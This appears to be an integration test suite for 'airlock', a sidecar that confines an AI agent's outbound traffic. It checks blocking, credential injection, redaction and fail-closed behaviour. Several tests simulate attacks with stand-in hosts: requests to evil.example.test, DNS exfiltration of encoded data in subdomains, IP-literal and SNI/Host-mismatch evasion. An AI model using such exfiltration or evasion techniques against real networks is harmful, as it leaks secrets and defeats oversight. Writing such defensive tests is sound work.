// Transparent capture (root, netns): an agent that ignores proxy settings gains nothing by it.
// A real pod namespace with `airlock init` applied, the sidecar as UID 15000, agent commands as
// UID 1000, and a world namespace holding real upstreams and a real DNS server (dnsmasq) whose own
// log proves which names it was asked. THREATS.md I2, I3, I4, I5.
import { expect } from "chai";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { eventually } from "./helpers/eventually.ts";
import { background, NODE, scratchFile, type Background, type PodWorld } from "./helpers/netns.ts";
import {
  AGENT_UID as AGENT,
  PodHarness,
  run,
  SIDECAR_UID as SIDECAR,
  worldRecords,
} from "./helpers/pod-harness.ts";
import { credentialYaml, egressPolicyYaml } from "./helpers/policy-yaml.ts";

const SECRET = "transparent-secret-9f8e7d6c";

interface WorldRecord {
  address: string;
  port: number;
  tls?: boolean;
  udp?: boolean;
  host?: string;
  method?: string;
  url?: string;
  headers?: Record<string, string>;
}

describe("transparent capture (root, netns): agents that ignore proxy settings", function () {
  this.timeout(60_000);
  const harness = new PodHarness();
  let pw: PodWorld;
  let upstreams: Background;
  let sidecar: Background;
  let bundle: string;
  let sidecarArgs: string[];
  const dnsLog = () => harness.dnsLog();
  const records = (): WorldRecord[] => worldRecords<WorldRecord>(upstreams);
  /** Records after index `from` whose URL starts with `path`: waits up to 3 s for the first one. */
  const recordsFor = async (from: number, path: string): Promise<WorldRecord[]> => {
    const matching = () =>
      records()
        .slice(from)
        .filter((r) => r.url?.startsWith(path));
    return eventually(
      () => {
        expect(matching(), `a record of ${path}`).to.not.deep.equal([]);
        return matching();
      },
      { timeoutMs: 3000, intervalMs: 25 },
    ).catch(() => matching()); // none: the caller says what that means
  };
  let barriers = 0;
  /**
   * Records after index `from` that came before a barrier: an allowed request the agent makes now,
   * whose record the world prints after that of anything the agent sent before (the world prints
   * a request's record before answering it, all on one stdout).
   */
  const recordsBeforeBarrier = async (from: number): Promise<WorldRecord[]> => {
    barriers++;
    const path = `/barrier-${String(barriers)}`;
    // Pinned: the barrier is about ordering, not DNS (its lookup failed once in CI; cause not found).
    const res = await curl([
      "--resolve",
      "registry.example.test:80:10.77.1.10",
      `http://registry.example.test${path}`,
    ]);
    expect(res.stdout, res.stderr).to.match(/\n200$/);
    return eventually(
      () => {
        const got = records().slice(from);
        const at = got.findIndex((r) => r.url === path);
        expect(at, `the record of ${path}`).to.not.equal(-1);
        return got.slice(0, at);
      },
      { timeoutMs: 3000, intervalMs: 25, what: "the barrier request's record" },
    );
  };
  const agentEnv = (): Record<string, string> => ({
    CURL_CA_BUNDLE: bundle,
    SSL_CERT_FILE: bundle,
    REQUESTS_CA_BUNDLE: bundle,
    GIT_SSL_CAINFO: bundle,
    NODE_EXTRA_CA_CERTS: bundle,
  });
  const agent = (command: string[], groups: number[] = []) =>
    run(pw.asUser(AGENT, command, groups), agentEnv());
  const curl = (args: string[], groups: number[] = []) =>
    agent(["curl", "-sS", "--max-time", "5", "-o", "-", "-w", "\n%{http_code}", ...args], groups);

  before(async function () {
    pw = harness.create(
      ["ip", "setpriv", "iptables-restore", "ip6tables-restore", "dnsmasq", "curl", "git", "python3", "ping"],
      ["10.77.1.10", "10.77.1.66", "10.77.1.20", "10.77.1.21"],
    );
    const world = await harness.startWorldUpstream([
      "10.77.1.10",
      "10.77.1.66",
      pw.worldIp,
      pw.worldIp6,
      "grpc:10.77.1.20:grpc.example.test",
      "grpc:10.77.1.21:grpc-open.example.test",
    ]);
    upstreams = world.upstream;
    await harness.startDnsmasq(pw.worldIp, [
      ["api.example.test", "10.77.1.10"],
      ["registry.example.test", "10.77.1.10"],
      ["evil.example.test", "10.77.1.66"],
      ["portonly.example.test", "10.77.1.10"],
      ["grpc.example.test", "10.77.1.20"],
      ["grpc-open.example.test", "10.77.1.21"],
      ["paths.example.test", "10.77.1.10"],
    ]);
    const worldCaPath = scratchFile(pw, "world-ca.pem", world.ca);
    const policy = scratchFile(
      pw,
      "policy.yaml",
      egressPolicyYaml("agent", [
        "{name: api, hosts: [api.example.test], credential: api}",
        "{name: registry, hosts: [registry.example.test]}",
        "{name: portonly, hosts: [portonly.example.test], ports: [8443]}",
        "{name: grpc, hosts: [grpc.example.test], paths: ['/airlock.test.Echo/*'], credential: api}",
        "{name: grpc-open, hosts: [grpc-open.example.test]}",
        "{name: paths, hosts: [paths.example.test], paths: ['/open/**']}",
      ]) + credentialYaml("api", SECRET),
    );
    harness.makeTrustDir();
    await harness.init();
    sidecarArgs = harness.sidecarArgs({
      policy,
      upstreamCa: worldCaPath,
      allow: ["10.77.1.10/32", "10.77.1.20/32", "10.77.1.21/32"],
    });
    sidecar = await background(sidecarArgs, /listening on/);
    harness.defer(() => sidecar.stop());
    // The agent trusts the pod's bundle; the world's CA stands in for a public CA.
    bundle = harness.agentBundle(world.ca);
  });

  after(async function () {
    await harness.teardown();
  });

  it("curl: a name no rule allows is blocked, whatever address the agent dials", async function () {
    const before = records().length;
    const tls = await curl(["--resolve", "evil.example.test:443:10.77.1.66", "https://evil.example.test/"]);
    expect(tls.code).to.not.equal(0);
    const plain = await curl(["--resolve", "evil.example.test:80:10.77.1.66", "http://evil.example.test/"]);
    expect(plain.stdout).to.match(/NoRuleMatched[\s\S]*\n403$/);
    expect(await recordsBeforeBarrier(before)).to.deep.equal([]);
  });

  // Every client, every outcome, both schemes. `portonly` resolves (a rule names it, on another
  // port) but no rule allows it on 80/443, so the boundary itself must block it.
  const CLIENTS: Record<string, (url: string) => string[]> = {
    curl: (url) => ["curl", "-sS", "--max-time", "5", "-o", "/dev/null", "-w", "%{http_code}", url],
    python3: (url) => ["/usr/bin/python3", "-c", PY_GET, url],
    node: (url) => [NODE, "--input-type=module", "-e", NODE_GET, url],
    git: (url) => ["git", "-c", "http.lowSpeedTime=5", "ls-remote", url],
  };
  const CASES = [
    { name: "inject over HTTPS", url: "https://api.example.test/inject", status: "200", sent: "credential" },
    { name: "allow over HTTPS", url: "https://registry.example.test/allow", status: "200", sent: "plain" },
    { name: "allow over HTTP", url: "http://registry.example.test/allow", status: "200", sent: "plain" },
    {
      name: "block over HTTPS",
      url: "https://portonly.example.test/block",
      status: "error",
      sent: "nothing",
    },
    { name: "block over HTTP", url: "http://portonly.example.test/block", status: "403", sent: "nothing" },
    {
      name: "inject rule over HTTP blocks",
      url: "http://api.example.test/cleartext",
      status: "403",
      sent: "nothing",
    },
  ] as const;
  for (const [client, command] of Object.entries(CLIENTS)) {
    for (const c of CASES) {
      it(`${client}: ${c.name}`, async function () {
        const before = records().length;
        const url = `${c.url}/${client}`;
        const res = await agent(command(url));
        const status = res.stdout.trim() === "000" ? "error" : res.stdout.trim();
        if (client !== "git") expect(status, res.stderr).to.equal(c.status);
        expect(res.stdout + res.stderr).not.to.include(SECRET);
        const path = new URL(url).pathname;
        // The world's record arrives on another process's stdout: wait for it, or (nothing to
        // send) for a barrier request's record that would come after it.
        let got =
          c.sent === "nothing"
            ? (await recordsBeforeBarrier(before)).filter((r) => r.url?.startsWith(path))
            : await recordsFor(before, path);
        if (client === "git" && c.sent !== "nothing" && got.length === 0) {
          // git has been seen, rarely, to give up before sending anything; the cause is not yet
          // found. One retry, and this still fails if the second attempt sends nothing either.
          const again = await agent(command(url));
          got = await recordsFor(before, path);
          expect(got.length, `first: ${res.stderr}\nsecond: ${again.stderr}`).to.be.at.least(1);
        }
        if (c.sent === "nothing") expect(got).to.deep.equal([]);
        else {
          expect(got.length, `${res.stdout}\n${res.stderr}`).to.be.at.least(1);
          for (const r of got)
            expect(r.headers?.authorization).to.equal(
              c.sent === "credential" ? `Bearer ${SECRET}` : undefined,
            );
        }
      });
    }
  }

  // HTTP/2 clients over HTTPS. On an intercepted host they choose h2 with the sidecar (which
  // speaks HTTP/1.1 to the world's upstream); a passed-through host negotiates with the upstream
  // itself, which offers only HTTP/1.1, so each client does what it would do there directly.
  const H2_CLIENTS: Record<string, { command: (url: string) => string[]; passthrough: string }> = {
    "curl --http2": {
      command: (url) => [
        "curl",
        "-sS",
        "--http2",
        "--max-time",
        "5",
        "-o",
        "/dev/null",
        "-w",
        "%{http_code} %{http_version}",
        url,
      ],
      passthrough: "200 1.1",
    },
    "node http2": {
      command: (url) => [NODE, "--input-type=module", "-e", NODE_H2_GET, url],
      passthrough: "error",
    },
    "python httpx (http2)": {
      command: (url) => ["/usr/bin/python3", "-c", PY_H2_GET, url],
      passthrough: "200 HTTP/1.1",
    },
  };
  const H2_CASES = [
    { name: "inject", url: "https://api.example.test/inject", out: "200 2", sent: "credential" },
    {
      name: "allow on a host a path rule intercepts",
      url: "https://paths.example.test/open",
      out: "200 2",
      sent: "plain",
    },
    {
      name: "block: a path no rule allows, on that host",
      url: "https://paths.example.test/closed",
      out: "403 2",
      sent: "nothing",
    },
    {
      name: "block: a port no rule allows",
      url: "https://portonly.example.test/block",
      out: "error",
      sent: "nothing",
    },
    {
      name: "allow, passed through (ALPN is the upstream's)",
      url: "https://registry.example.test/allow",
      out: "passthrough",
      sent: "plain",
    },
  ] as const;
  for (const [client, { command, passthrough }] of Object.entries(H2_CLIENTS)) {
    for (const c of H2_CASES) {
      it(`${client}: ${c.name}`, async function () {
        const before = records().length;
        const url = `${c.url}/${client.split(" ")[0] ?? ""}-h2`;
        const res = await agent(command(url));
        const out = res.stdout.trim();
        const want = c.out === "passthrough" ? passthrough : c.out;
        if (want === "error") expect(out, res.stderr).to.be.oneOf(["error", "000 0"]);
        else expect(out, res.stderr).to.equal(want);
        expect(res.stdout + res.stderr).not.to.include(SECRET);
        const path = new URL(url).pathname;
        const sent = want === "error" ? "nothing" : c.sent;
        const got =
          sent === "nothing"
            ? (await recordsBeforeBarrier(before)).filter((r) => r.url?.startsWith(path))
            : await recordsFor(before, path);
        if (sent === "nothing") expect(got).to.deep.equal([]);
        else {
          expect(got.length, `${res.stdout}\n${res.stderr}`).to.equal(1);
          expect(got[0]?.headers?.authorization).to.equal(
            sent === "credential" ? `Bearer ${SECRET}` : undefined,
          );
        }
      });
    }
  }

  it("grpc-js client, passed through (an unconstrained allow rule): HTTP/2 end to end, every method, no credential", async function () {
    const before = records().length;
    const res = await agent([NODE, GRPC_AGENT, "grpc-open.example.test:443", bundle]);
    const lines = res.stdout
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as { call: string; code: number; details?: string; text?: string });
    expect(lines, res.stderr).to.deep.equal([
      { call: "unary", code: 0, text: "auth " },
      { call: "drop", code: 0, text: "dropped" },
    ]);
    const got = await recordsFor(before, "/airlock.test.Echo/Unary");
    expect(got.map((r) => r.address)).to.deep.equal(["10.77.1.21"]);
    expect(got[0]?.headers?.authorization).to.equal(undefined);
  });

  it("grpc-js client: an allowed method gets the credential as metadata, its reflection scrubbed; another method fails PERMISSION_DENIED", async function () {
    const before = records().length;
    const res = await agent([NODE, GRPC_AGENT, "grpc.example.test:443", bundle]);
    expect(res.stdout + res.stderr).not.to.include(SECRET);
    const lines = res.stdout
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as { call: string; code: number; details?: string; text?: string });
    expect(lines, res.stderr).to.deep.equal([
      { call: "unary", code: 0, text: "auth [airlock:redacted]" },
      { call: "drop", code: 7, details: lines[1]?.details },
    ]);
    expect(lines[1]?.details).to.match(/^airlock NoRuleMatched: /);
    const got = await recordsFor(before, "/airlock.test.Echo/Unary");
    expect(got.length, res.stdout).to.equal(1);
    expect(got[0]?.headers?.authorization).to.equal(`Bearer ${SECRET}`);
    expect(
      (await recordsBeforeBarrier(before)).filter((r) => r.url?.startsWith("/airlock.test.Admin")),
    ).to.deep.equal([]);
  });

  it("node ws client: a WebSocket to an inject host is credentialed at its handshake, its frames scrubbed; one no rule allows is refused", async function () {
    const before = records().length;
    const ws = (url: string) => agent([NODE, "--input-type=module", "-e", NODE_WS, WS_MODULE, url]);
    const res = await ws("wss://api.example.test/ws-transparent");
    expect(res.stdout, res.stderr).to.include("echo hello");
    // The upstream answers with the Authorization header its handshake carried.
    expect(res.stdout, res.stderr).to.include("you sent [airlock:redacted]");
    expect(res.stdout + res.stderr).not.to.include(SECRET);
    const got = await recordsFor(before, "/ws-transparent");
    expect(got.length, res.stdout).to.equal(1);
    expect(got[0]?.headers?.authorization).to.equal(`Bearer ${SECRET}`);
    const refused = await ws("wss://portonly.example.test/ws-refused");
    expect(refused.stdout).to.match(/^error /m);
    expect((await recordsBeforeBarrier(before)).filter((r) => r.url === "/ws-refused")).to.deep.equal([]);
  });

  it("attacks: IP literals, an allowed SNI sent to another address, Host differing from SNI", async function () {
    const before = records().length;
    const literalTls = await curl(["-k", "https://10.77.1.10/"]);
    expect(literalTls.code).to.not.equal(0);
    const literalHttp = await curl(["http://10.77.1.10/"]);
    expect(literalHttp.stdout).to.match(/\n403$/);
    // The agent points an allowed name at the attacker's address: the sidecar dials what it resolved.
    const steered = await curl([
      "--resolve",
      "registry.example.test:443:10.77.1.66",
      "https://registry.example.test/steer",
    ]);
    expect(steered.stdout).to.match(/\n200$/);
    const mismatch = await curl(["-H", "Host: registry.example.test", "https://api.example.test/x"]);
    expect(mismatch.stdout, mismatch.stderr).to.match(/HostMismatch[\s\S]*\n403$/);
    const got = await recordsBeforeBarrier(before);
    expect(got.map((r) => `${r.address} ${r.url ?? ""}`)).to.deep.equal(["10.77.1.10 /steer"]);
  });

  it("attacks: IPv6, UDP (QUIC-like and DNS to the world's resolver), ICMP", async function () {
    const before = records().length;
    const v6 = await curl(["-g", `http://[${pw.worldIp6}]/`]);
    expect(v6.stdout).not.to.match(/\n200$/);
    const udp = await agent([
      "python3",
      "-c",
      `import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ntry:\n  s.sendto(b'\\x40quic-initial',('${pw.worldIp}',4433))\nexcept OSError as e:\n  print(e)`,
    ]);
    expect(udp.code).to.equal(0);
    const ping = await agent(["ping", "-c", "1", "-W", "1", pw.worldIp]);
    // 1 = sent, no reply (the capture rules dropped it); 2 would be an error before sending.
    expect(ping.code, ping.stderr).to.equal(1);
    expect(await recordsBeforeBarrier(before)).to.deep.equal([]);
    // A DNS query straight to the world's resolver is captured; the resolver never sees the name.
    const dig = await agent(["python3", "-c", DNS_QUERY, pw.worldIp, "c2VjcmV0.exfil.example.test"]);
    expect(dig.stdout.trim()).to.equal("rcode=3");
    expect(dnsLog()).not.to.include("exfil");
  });

  it("DNS: allowed names resolve through the sidecar; others are NXDOMAIN and never leave the pod", async function () {
    const allowed = await agent([
      "python3",
      "-c",
      "import socket;print(socket.gethostbyname('api.example.test'))",
    ]);
    expect(allowed.stdout.trim()).to.equal("10.77.1.10");
    const denied = await agent([
      "python3",
      "-c",
      "import socket;socket.gethostbyname('leak-token-123.evil.example.test')",
    ]);
    expect(denied.code).to.not.equal(0);
    expect(dnsLog()).to.include("api.example.test");
    expect(dnsLog()).not.to.include("leak-token-123");
  });

  // The sidecar and the agents both send DNS from the pod's address to the resolver's port 53;
  // without separate conntrack zones, a reused source port makes one follow the other's entry.
  it("DNS: a source port the sidecar just used still reaches the sidecar, and one an agent just used still reaches the resolver", async function () {
    const port = () => String(40000 + Math.floor(Math.random() * 20000));
    const query = (uid: number, name: string, from: string) =>
      run(pw.asUser(uid, ["python3", "-c", DNS_QUERY, pw.worldIp, name, from]), agentEnv());
    const p = port();
    // The sidecar's lookup leaves an un-NATed entry for p; the agent's query from p is still captured.
    expect((await query(SIDECAR, "api.example.test", p)).stdout.trim()).to.equal("rcode=0");
    const agentQuery = await query(AGENT, "zones-agent.evil.example.test", p);
    expect(agentQuery.stdout.trim(), agentQuery.stderr).to.equal("rcode=3");
    expect(dnsLog()).not.to.include("zones-agent");
    const q = port();
    // The agent's redirected entry for q does not capture the sidecar's own query from q: the
    // world's resolver answers evil.example.test, which the sidecar would have refused (NXDOMAIN).
    expect((await query(AGENT, "zones-first.evil.example.test", q)).stdout.trim()).to.equal("rcode=3");
    const sidecarQuery = await query(SIDECAR, "evil.example.test", q);
    expect(sidecarQuery.stdout.trim(), sidecarQuery.stderr).to.equal("rcode=0");
  });

  it("DNS: 600 lookups from 8 agent threads, each answered (A and AAAA in parallel, as glibc asks)", async function () {
    const res = await run(
      pw.asUser(AGENT, ["python3", "-c", PY_LOOKUPS, "api.example.test", "600", "8"]),
      agentEnv(),
      60_000,
    );
    expect(res.stdout.trim(), res.stderr).to.equal("600 answered, 0 failed");
  });

  it("the control port is closed to the agent, also with the sidecar's GID as a supplementary group", async function () {
    // A stand-in control server on the control port, run as the sidecar's UID: only that UID reaches it.
    const control = await background(
      pw.asUser(SIDECAR, [
        "/usr/bin/python3",
        "-m",
        "http.server",
        "15443",
        "--bind",
        "127.0.0.1",
        "--directory",
        pw.dir,
      ]),
      /Serving HTTP/,
    );
    try {
      const asSidecar = await run(
        pw.asUser(SIDECAR, [
          "curl",
          "-sS",
          "-o",
          "/dev/null",
          "-w",
          "%{http_code}",
          "http://127.0.0.1:15443/",
        ]),
      );
      expect(asSidecar.stdout).to.equal("200");
      for (const groups of [[], [SIDECAR]]) {
        const res = await curl(["http://127.0.0.1:15443/"], groups);
        expect(res.code, `groups ${groups.join(",")}`).to.not.equal(0);
        expect(res.stdout).to.match(/\n000$/);
      }
      const withGid = await curl(["http://10.77.1.10/"], [SIDECAR]);
      expect(withGid.stdout).to.match(/\n403$/);
    } finally {
      await control.stop();
    }
  });

  it("fail closed: with the sidecar stopped the agent reaches nothing; a restart restores service", async function () {
    await sidecar.stop();
    const before = records().length;
    const down = await curl([
      "--resolve",
      "registry.example.test:443:10.77.1.10",
      "https://registry.example.test/down",
    ]);
    expect(down.code).to.not.equal(0);
    expect(records().slice(before)).to.deep.equal([]);
    sidecar = await background(sidecarArgs, /listening on/);
    bundle = harness.agentBundle(readFileSync(join(pw.dir, "world-ca.pem"), "utf8"));
    // Pinned like the request above: this is about the listener coming back, not DNS.
    const up = await curl(["--resolve", "api.example.test:443:10.77.1.10", "https://api.example.test/again"]);
    expect(up.stdout, up.stderr).to.match(/\n200$/);
  });
});

/** A raw DNS A query over UDP to argv[1]:53 for argv[2] (from port argv[3], if given); prints the response code. */
const DNS_QUERY = `import socket,struct,sys
q=struct.pack('>HHHHHH',0x1234,0x0100,1,0,0,0)+b''.join(bytes([len(p)])+p.encode() for p in sys.argv[2].split('.'))+b'\\x00'+struct.pack('>HH',1,1)
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(3)
if len(sys.argv)>3: s.bind(('',int(sys.argv[3])))
s.sendto(q,(sys.argv[1],53))
try:
  r,_=s.recvfrom(4096);print('rcode=%d'%(r[3]&15))
except socket.timeout:
  print('timeout')`;

/** argv[2] getaddrinfo lookups of argv[1] on argv[3] threads; prints how many were answered. */
const PY_LOOKUPS = `import socket,sys,concurrent.futures as cf
def one(_):
  try:
    return bool(socket.getaddrinfo(sys.argv[1],443,type=socket.SOCK_STREAM))
  except OSError:
    return False
with cf.ThreadPoolExecutor(int(sys.argv[3])) as ex:
  got=list(ex.map(one,range(int(sys.argv[2]))))
print('%d answered, %d failed'%(got.count(True),got.count(False)))`;

/** GET argv[1] with urllib; prints the status, or "error" when no HTTP answer came. */
const PY_GET = `import sys,urllib.request,urllib.error
try:
  print(urllib.request.urlopen(sys.argv[1], timeout=5).status)
except urllib.error.HTTPError as e:
  print(e.code)
except Exception:
  print('error')`;

/** The `ws` package's ESM entry, for agent scripts (the repository's node_modules). */
const WS_MODULE = join(import.meta.dirname, "../node_modules/ws/wrapper.mjs");
/** A ws client: sends "hello", then "echo-credential", printing each answer; prints refusals. */
const NODE_WS = [
  "const { WebSocket } = await import(process.argv[1]);",
  "const ws = new WebSocket(process.argv[2]);",
  "let n = 0;",
  "ws.on('open', () => ws.send('hello'));",
  "ws.on('message', (d) => { console.log(String(d)); if (++n === 1) ws.send('echo-credential'); else ws.close(); });",
  "ws.on('unexpected-response', (_q, r) => { console.log('status ' + r.statusCode); process.exit(0); });",
  "ws.on('error', (e) => { console.log('error ' + e.message); process.exit(0); });",
  "ws.on('close', () => process.exit(0));",
].join("\n");
/** An HTTP/2 GET of argv[1] with node:http2; prints the status and "2" when h2 was chosen, or "error". */
const NODE_H2_GET = [
  "import http2 from 'node:http2';",
  "const url = new URL(process.argv[1]);",
  "const fail = () => { console.log('error'); process.exit(0); };",
  "const session = http2.connect(url.origin);",
  "session.on('error', fail);",
  "const req = session.request({ ':path': url.pathname });",
  "req.on('error', fail);",
  "req.on('response', (h) => { console.log(h[':status'] + ' ' + (session.alpnProtocol === 'h2' ? '2' : session.alpnProtocol)); session.close(); });",
  "req.resume();",
].join("\n");
/** An HTTP/2 GET of argv[1] with httpx; prints the status and "2" for HTTP/2, or "error". */
const PY_H2_GET = `import httpx,os,sys
try:
  with httpx.Client(http2=True, verify=os.environ['SSL_CERT_FILE'], timeout=5) as c:
    r = c.get(sys.argv[1]); print('%d %s' % (r.status_code, '2' if r.http_version == 'HTTP/2' else r.http_version))
except Exception:
  print('error')`;
/** The agent's gRPC client (argv target, CA bundle). */
const GRPC_AGENT = join(import.meta.dirname, "fixtures/grpc-agent.ts");
/** GET argv[1] with Node's built-in fetch; prints the status, or "error". */
const NODE_GET = "try { console.log((await fetch(process.argv[1])).status) } catch { console.log('error') }";
